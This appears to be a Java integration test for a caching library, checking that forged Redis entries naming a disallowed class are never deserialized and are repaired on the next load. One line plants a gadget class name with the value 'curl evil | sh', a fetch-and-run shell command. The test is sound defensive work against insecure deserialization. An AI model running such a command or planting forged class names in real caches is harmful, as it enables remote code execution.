package io.lamina.cache.tests.l2;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.annotation.JsonTypeInfo;
import io.lamina.cache.CacheOptions;
import io.lamina.cache.CacheTemplate;
import io.lamina.cache.internal.envelope.Envelope;
import io.lamina.cache.spi.JsonCodec;
import io.lamina.cache.tests.l2.gadget.Gadget;
import io.lamina.cache.tests.l2.gadget.GadgetEffects;
import io.lamina.cache.tests.redis.RedisNamespace;
import io.lamina.cache.tests.redis.RedisServer;
import io.lamina.cache.tests.redis.RedisTest;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * A value type whose property asks for class names ({@code @JsonTypeInfo(use = CLASS)}): bytes written to Redis by
 * someone else that name a class outside what the codec allows do not get it loaded or constructed; the entry is a
 * counted miss, repaired by the next load. An allowed subtype still round-trips through Redis.
 */
@RedisTest
@Timeout(30)
class ClassNamesFromRedisIT {

    /** The application's base type for the polymorphic property. */
    public interface Payment {
    }

    public record Card(String last4) implements Payment {
    }

    public record Order(String id, @JsonTypeInfo(use = JsonTypeInfo.Id.CLASS) Payment payment) {
    }

    private Nodes nodes;

    @BeforeEach
    void setUp(RedisServer redis, @RedisNamespace String namespace) {
        nodes = new Nodes(redis, namespace + "-" + System.nanoTime());
    }

    @AfterEach
    void tearDown() throws Exception {
        nodes.close();
    }

    private CacheTemplate node() {
        return nodes.node(CacheOptions.builder().ttl(Duration.ofMinutes(5)).build(),
                b -> b.codec(JsonCodec.builder().allowSubtypesOf(Payment.class).build()));
    }

    @Test
    void anAllowedSubtype_roundTripsThroughRedis_toAFreshNode() {
        node().remember("orders", "o1", Order.class, () -> new Order("o1", new Card("4242")));
        AtomicInteger loads = new AtomicInteger();

        Order read = node().remember("orders", "o1", Order.class, () -> {
            loads.incrementAndGet();
            return new Order("o1", new Card("0000"));
        });

        assertThat(read).isEqualTo(new Order("o1", new Card("4242")));
        assertThat(loads).hasValue(0);
        String payload = new String(Envelope.decode(nodes.redis().get(Nodes.bytes(nodes.entryKey("orders", "o1")))).payload(),
                StandardCharsets.UTF_8);
        assertThat(payload).contains("\"@class\":\"" + Card.class.getName() + "\"");
    }

    @Test
    void aGadgetNamedInRedisBytes_isNeverInstantiated_isACountedMiss_andIsRepairedByTheNextLoad() {
        byte[] key = Nodes.bytes(nodes.entryKey("orders", "o1"));
        node().remember("orders", "o1", Order.class, () -> new Order("o1", new Card("4242")));
        Envelope written = Envelope.decode(nodes.redis().get(key));
        String planted = new String(written.payload(), StandardCharsets.UTF_8)
                .replace("\"@class\":\"" + Card.class.getName() + "\",\"last4\":\"4242\"",
                        "\"@class\":\"" + Gadget.class.getName() + "\",\"command\":\"curl evil | sh\"");
        assertThat(planted).contains(Gadget.class.getName());
        // the rest of the envelope (times, shape, tags and their versions) as Lamina wrote it: only the class name is forged
        nodes.redis().set(key, new Envelope(written.createdAt(), written.freshUntil(), written.isNull(), written.shape(),
                written.tags(), written.tagVersions(), planted.getBytes(StandardCharsets.UTF_8)).encode());

        CacheTemplate fresh = node();
        AtomicInteger loads = new AtomicInteger();
        Order read = fresh.remember("orders", "o1", Order.class, () -> {
            loads.incrementAndGet();
            return new Order("o1", new Card("1111"));
        });

        assertThat(GadgetEffects.INITIALIZED).as("gadget class initialized").hasValue(0);
        assertThat(GadgetEffects.CONSTRUCTED).as("gadget constructed").hasValue(0);
        assertThat(GadgetEffects.SET).as("gadget setter").hasValue(0);
        assertThat(read).isEqualTo(new Order("o1", new Card("1111")));
        assertThat(loads).hasValue(1);
        // one forged entry, read before the load and once more under the load lock: each read is a counted miss
        assertThat(fresh.stats("orders").decodeFailures()).isBetween(1L, 2L);
        String repaired = new String(Envelope.decode(nodes.redis().get(key)).payload(), StandardCharsets.UTF_8);
        assertThat(repaired).contains("1111").doesNotContain(Gadget.class.getName());
        assertThat(node().remember("orders", "o1", Order.class, () -> new Order("o1", new Card("2222"))))
                .isEqualTo(new Order("o1", new Card("1111")));
    }
}
